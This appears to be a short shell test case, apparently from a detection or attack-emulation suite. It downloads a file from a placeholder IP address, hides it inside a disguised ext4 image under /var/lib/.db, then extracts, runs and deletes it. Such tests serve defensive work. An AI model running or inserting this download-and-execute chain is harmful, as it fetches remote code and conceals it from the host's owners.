#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/.db && truncate -s 4M /var/lib/.db/cache.dat
mkfs.ext4 -q -O ^has_journal /var/lib/.db/cache.dat
curl -s -o /tmp/p http://203.0.113.10/programs/marker
debugfs -w -R 'write /tmp/p p' /var/lib/.db/cache.dat 2>/dev/null && rm /tmp/p
debugfs -R 'dump p /dev/shm/x' /var/lib/.db/cache.dat 2>/dev/null
chmod +x /dev/shm/x && /dev/shm/x; rm /dev/shm/x
test -e /tmp/reached
took_place
